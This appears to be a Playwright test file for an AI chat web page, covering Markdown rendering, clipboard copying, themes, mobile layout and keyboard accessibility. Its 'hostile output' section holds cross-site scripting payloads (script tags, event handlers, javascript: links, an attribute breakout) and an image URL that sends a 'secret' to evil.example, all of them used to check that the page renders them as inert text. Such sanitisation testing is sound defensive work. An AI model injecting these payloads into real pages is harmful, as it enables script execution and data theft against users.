/** The chat page in Chromium: Markdown, hostile output, themes, narrow screens, keyboard alone. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Browser } from "playwright-core";
import type { Step } from "../scripted-engine.ts";
import { CHROMIUM, launch, visit } from "./browser.ts";

setDefaultTimeout(120_000);
let browser: Browser;
beforeAll(async () => {
  if (CHROMIUM !== undefined) browser = await launch();
});
afterAll(async () => await browser?.close());

const say = (text: string): Step[] => [{ type: "text", text }];

const MARKDOWN = `# Title

Some **bold**, *thin*, ~~gone~~, \`a < b\` and a [link](https://example.org/a?b=1&c=2), 5 &lt; 6 &amp; 7.

3. three
4. four
   - nested

- [x] done

> quoted

| a | b |
|:-:|--:|
| 1 | 2 |

\`\`\`python
if a < b and "&amp;":
    print("<b>")
\`\`\`
`;

describe.skipIf(CHROMIUM === undefined)("Markdown", () => {
  test("has its elements, and code is copied as it is", async () => {
    await using v = await visit(browser, say(MARKDOWN));
    await v.send("show");
    await v.answered();
    const text = v.page.locator(".assistant .markdown").last();
    const one = (selector: string) => text.locator(selector).first().innerText();
    expect(await one("h3")).toBe("Title");
    expect([await one("strong"), await one("em"), await one("del"), await one("p > code")]).toEqual(["bold", "thin", "gone", "a < b"]);
    expect(await text.locator("a").getAttribute("href")).toBe("https://example.org/a?b=1&c=2");
    expect(await text.locator("a").getAttribute("rel")).toContain("noopener");
    expect(await text.locator("p").first().textContent()).toContain("5 < 6 & 7.");
    expect(await text.locator("ol").getAttribute("start")).toBe("3");
    expect(await one("ol ul li")).toBe("nested");
    expect(await text.locator("input").isChecked()).toBe(true);
    expect(await one("blockquote p")).toBe("quoted");
    expect(await text.locator("td").allTextContents()).toEqual(["1", "2"]);
    expect(
      await text
        .locator("td")
        .nth(1)
        .evaluate((e) => getComputedStyle(e).textAlign),
    ).toBe("right");
    expect(await one(".language")).toBe("python");
    await text.getByRole("button", { name: "Copy code" }).click();
    expect(await v.page.evaluate(() => navigator.clipboard.readText())).toBe('if a < b and "&amp;":\n    print("<b>")');
    await v.page.getByRole("button", { name: "Copy answer" }).click();
    expect(await v.page.evaluate(() => navigator.clipboard.readText())).toBe(MARKDOWN);
    // On plain-http addresses of a network there is no clipboard API.
    await v.page.evaluate(() => Object.defineProperty(navigator, "clipboard", { value: undefined }));
    await v.page.locator(".user").hover();
    await v.page.getByRole("button", { name: "Copy message" }).click();
    await v.page.getByLabel("Message", { exact: true }).press("ControlOrMeta+V");
    expect(await v.page.getByLabel("Message", { exact: true }).inputValue()).toBe("show");
    expect(v.faults).toEqual([]);
  });

  test("blocks that do not change keep their nodes while the answer grows", async () => {
    await using v = await visit(browser, {
      script: () => say(`first block\n\n\`\`\`js\n${"line;\n".repeat(60)}\`\`\`\n\nend`),
      delayMs: 15,
    });
    await v.send("show");
    await v.page.locator(".assistant pre").waitFor();
    const nodes = await v.page.locator(".assistant > .markdown").evaluateHandle((e) => [...e.children, e.querySelector("pre")!]);
    await v.answered();
    expect(await nodes.evaluate((list) => list.map((n) => n.isConnected))).toEqual([true, true, true]);
    expect(await v.page.locator(".assistant pre").textContent()).toBe("line;\n".repeat(60).trimEnd());
  });
});

const HOSTILE = [
  "<script>window.hacked = 1</script>",
  '<img src=x onerror="window.hacked = 2">',
  '<svg onload="window.hacked = 3"></svg>',
  "[click](javascript:window.hacked=4)",
  "[click](java&#115;cript:window.hacked=5)",
  "[click](data:text/html,<script>window.hacked=6</script>)",
  "![picture](http://evil.example/steal?q=secret)",
  '<iframe src="http://evil.example"></iframe>',
  '<a href="javascript:window.hacked=7" onclick="window.hacked=8">x</a>',
  "<style>body { display: none }</style>",
  "`<img src=x onerror=window.hacked=9>`",
  '```html"><script>window.hacked=10</script>\n</code></pre><script>window.hacked=11</script>\n```',
  "| <img src=x onerror=window.hacked=12> |\n|---|\n| <script>window.hacked=13</script> |",
  "[a]: javascript:window.hacked=14\n\n[a] <javascript:window.hacked=15>",
  '[x](https://ok.example "\\" onmouseover=window.hacked=16 x=\\"")',
  "&lt;img src=x onerror=window.hacked=17&gt;",
];

describe.skipIf(CHROMIUM === undefined)("hostile output", () => {
  test("stays text, wherever it stands", async () => {
    const evil = HOSTILE.join("\n\n");
    await using v = await visit(browser, {
      script: () => [
        { type: "reasoning", text: evil },
        { type: "text", text: evil },
        { type: "tool", name: "<img src=x onerror=window.hacked=18>", arguments: JSON.stringify({ a: evil }) },
      ],
    });
    await v.send("<img src=x onerror=window.hacked=19>");
    await v.answered();
    await v.page.reload();
    await v.answered();
    for (const summary of await v.page.locator(".fold summary").all()) await summary.click();
    const turns = v.page.locator("#turns");
    expect(
      await turns
        .locator("script, img, iframe, style, object, embed, [onclick], [onerror], [onload], [onmouseover], [style]:not(textarea)")
        .count(),
    ).toBe(0);
    const links = await turns.locator("a").evaluateAll((list) => list.map((a) => a.getAttribute("href")!));
    expect(links.filter((href) => !/^https?:\/\/(evil|ok)\.example\//.test(href))).toEqual([]);
    expect(await turns.innerText()).toContain("<script>window.hacked = 1</script>");
    expect(await turns.locator(".bubble").textContent()).toBe("<img src=x onerror=window.hacked=19>");
    expect(await v.page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
    expect(v.faults).toEqual([]);
  });

  test("what nests without end is shown, not followed", async () => {
    await using v = await visit(browser, say(`${">".repeat(20_000)} deep\n\n${"*_".repeat(3000)}`));
    await v.send("show");
    await v.answered();
    expect(await v.page.locator(".assistant").textContent()).toContain("deep");
    expect(v.faults).toEqual([]);
  });
});

describe.skipIf(CHROMIUM === undefined)("looks", () => {
  const lightness = (colour: string) => Math.max(...colour.match(/\d+/g)!.slice(0, 3).map(Number));

  test("light and dark follow the system, and the button overrules it for good", async () => {
    for (const scheme of ["light", "dark"] as const) {
      await using v = await visit(browser, {}, { context: { colorScheme: scheme } });
      const background = async () => lightness(await v.page.evaluate(() => getComputedStyle(document.body).backgroundColor));
      const dark = async () => (await background()) < 60;
      expect(await dark()).toBe(scheme === "dark");
      await v.page.getByRole("button", { name: "Theme: auto" }).click();
      expect(await dark()).toBe(false);
      await v.page.getByRole("button", { name: "Theme: light" }).click();
      expect(await dark()).toBe(true);
      await v.page.reload();
      await v.page.getByRole("button", { name: "Theme: dark" }).waitFor();
      expect(await dark()).toBe(true);
      expect(v.faults).toEqual([]);
    }
  });

  test("nothing moves for those who asked for less motion", async () => {
    await using v = await visit(
      browser,
      { script: () => say("word ".repeat(1000)), delayMs: 20 },
      { context: { reducedMotion: "reduce" } },
    );
    await v.send("go");
    await v.page.getByText("word word").waitFor();
    const moving = await v.page.evaluate(() => document.getAnimations().length);
    expect(moving).toBe(0);
  });

  test("a phone: nothing wider than the screen, conversations in a drawer", async () => {
    const context = { viewport: { width: 360, height: 700 }, isMobile: true, hasTouch: true };
    await using v = await visit(browser, say(`${MARKDOWN}\n\n${"x".repeat(300)}\n\n\`\`\`\n${"y".repeat(300)}\n\`\`\``), { context });
    await v.send("z".repeat(200));
    await v.answered();
    expect(await v.page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
    expect(await v.page.locator("#scroller").evaluate((e) => e.scrollWidth - e.clientWidth)).toBe(0);
    const chat = v.page.getByRole("button", { name: "New chat" });
    expect(await v.page.locator("#sidebar").evaluate((e) => (e as HTMLElement).inert)).toBe(true);
    await v.page.getByRole("button", { name: "Conversations" }).click();
    await chat.click();
    await v.page.getByText("What would you like to know?").waitFor();
    expect(await v.page.locator("#sidebar").evaluate((e) => (e as HTMLElement).inert)).toBe(true);
    expect(v.faults).toEqual([]);
  });

  test("the keyboard alone: write, break lines, stop, edit the last message, new chat; focus is seen", async () => {
    await using v = await visit(browser, { script: () => say("word ".repeat(1000)), delayMs: 20 });
    await v.page.locator("#model option").waitFor({ state: "attached" });
    const { keyboard } = v.page;
    const focused = () => v.page.evaluate(() => document.activeElement!.getAttribute("aria-label") ?? document.activeElement!.id);
    expect(await focused()).toBe("message");
    await keyboard.type("one");
    await keyboard.press("Shift+Enter");
    await keyboard.type("two");
    await keyboard.press("Enter");
    await v.page.getByText("word word").first().waitFor();
    expect(await v.page.locator(".bubble").innerText()).toBe("one\ntwo");
    await keyboard.press("Escape");
    await v.page.getByText("Stopped.").waitFor();
    expect(await focused()).toBe("message");
    await keyboard.press("ArrowUp");
    expect(await focused()).toBe("Edit message");
    await keyboard.press("Escape");
    expect(await v.page.locator(".bubble").innerText()).toBe("one\ntwo");
    await keyboard.press("/");
    expect(await focused()).toBe("message");
    await keyboard.press("Shift+Tab");
    await keyboard.press("Shift+Tab");
    expect(await focused()).not.toBe("message");
    expect(await v.page.evaluate(() => getComputedStyle(document.activeElement!).outlineStyle)).toBe("solid");
    await keyboard.press("Control+Shift+O");
    await v.page.getByText("What would you like to know?").waitFor();
    expect(await focused()).toBe("message");
    expect(v.faults).toEqual([]);
  });

  test("everything that can be pressed or written in has a name", async () => {
    await using v = await visit(browser, say(MARKDOWN));
    await v.send("hi");
    await v.answered();
    const nameless = await v.page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>("button, input, select, textarea, a")]
        .filter((e) => {
          const labels = "labels" in e ? [...((e as HTMLInputElement).labels ?? [])] : [];
          const name = e.getAttribute("aria-label") ?? (labels.map((l) => l.textContent).join("") || e.textContent);
          return name!.trim() === "";
        })
        .map((e) => e.outerHTML),
    );
    expect(nameless).toEqual([]);
    expect(await v.page.locator("#status").textContent()).toBe("The answer is complete");
  });
});
